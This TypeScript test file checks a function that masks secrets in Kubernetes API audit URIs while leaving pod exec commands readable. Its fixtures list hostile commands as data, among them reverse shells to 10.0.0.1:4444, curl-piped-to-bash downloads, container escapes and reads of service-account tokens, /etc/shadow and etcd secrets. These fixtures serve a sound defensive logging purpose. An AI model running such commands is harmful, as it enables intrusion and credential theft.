import { expect, test } from 'vitest';
import { maskUri } from '../../../../src/core/rank/mask/uri.ts';
import { planted, readings } from '../../../planted.ts';

test('there are secrets of more than a hundred shapes', () => {
  expect(new Set(planted.map(({ uri }) => uri)).size).toBeGreaterThan(300);
  for (const { shape, uri, needles } of planted)
    expect([shape, needles.some((needle) => readings(uri).includes(needle))]).toEqual([shape, true]);
});

test.each(planted)('no secret is shown of $shape', ({ uri, needles }) => {
  const shown = readings(maskUri(uri));
  expect(needles.filter((needle) => shown.includes(needle))).toEqual([]);
});

const exec = (...words: readonly string[]): string =>
  `/api/v1/namespaces/shop/pods/web-0/exec?${words.map((word) => `command=${encodeURIComponent(word)}`).join('&')}`;

test.each([
  ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
  ['cat', '/etc/shadow'],
  ['cat', '/proc/1/environ'],
  ['curl', '-H', 'Metadata: true', 'http://169.254.169.254/metadata/instance?api-version=2021-02-01'],
  ['curl', '-k', 'https://kubernetes.default.svc/api/v1/namespaces'],
  ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', '-p', '--', 'bash'],
  ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'],
  ['kubectl', 'get', 'secrets', '-A'],
  ['kubectl', '--namespace', 'kube-system', 'get', 'pods', '-o', 'wide'],
  ['sh', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
  ['sh', '-c', 'curl -s http://203.0.113.9/x.sh | bash'],
  ['sh', '-c', 'TERM=xterm-256color; export TERM; [ -x /bin/bash ] && exec /bin/bash || exec /bin/sh'],
  ['/bin/bash', '-l'],
  ['chroot', '/host', 'bash'],
  ['mount', '/dev/sda1', '/mnt'],
  ['find', '/', '-name', 'id_rsa'],
  ['find', '/', '-perm', '-4000', '-exec', 'ls', '-la', '{}', ';'],
  ['psql', '-U', 'postgres', '-c', 'SELECT * FROM users'],
  ['tail', '-f', '-n', '100', '/var/log/nginx/access.log'],
  ['tar', 'czf', '-', '/data'],
  ['etcdctl', 'get', '/registry/secrets', '--prefix', '--keys-only'],
  ['mkdir', '-p', '/tmp/out'],
  ['ssh', '-p', '2222', 'root@10.0.0.9'],
  ['timeout', '5', 'nmap', '10.0.0.0/24'],
])('what was run can be read: %s %s %s', (...words) => {
  const uri = exec(...words);
  expect(maskUri(uri)).toBe(uri);
});

test.each([
  ['/api/v1/namespaces/shop/services/https:web:443/proxy/metrics', null],
  ['/api/v1/nodes/n1/proxy/run/shop/web-7d9c5b8f6d-x2x4z/web?cmd=id', null],
  ['/api/v1/nodes/n1/proxy/containerLogs/shop/web-0/web?tailLines=20&timestamps=true', null],
  ['/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/system:node-proxier', null],
  ['/api/v1/namespaces/shop/pods/web-0/portforward?ports=8080', null],
  ['/api/v1/pods?fieldSelector=spec.nodeName%3Daks-1,status.phase!%3DRunning&watch=true', null],
  ['/api/v1/secrets?labelSelector=owner%3Dhelm,name%3Dweb', null],
  ['/api/v1/pods?labelSelector=app&allowWatchBookmarks=true&timeout=5m0s&resourceVersion=0', null],
  ['/api/v1/pods?labelSelector=app%3Dx9K4mQ2z', '/api/v1/pods?labelSelector=[redacted]'],
  ['/api/v1/pods?limit=five', '/api/v1/pods?limit=[redacted]'],
  ['/openapi/v2?timeout=32s', null],
])('of a call to the API what it asks for is shown: %s', (uri, shown) => {
  expect(maskUri(uri)).toBe(shown ?? uri);
});
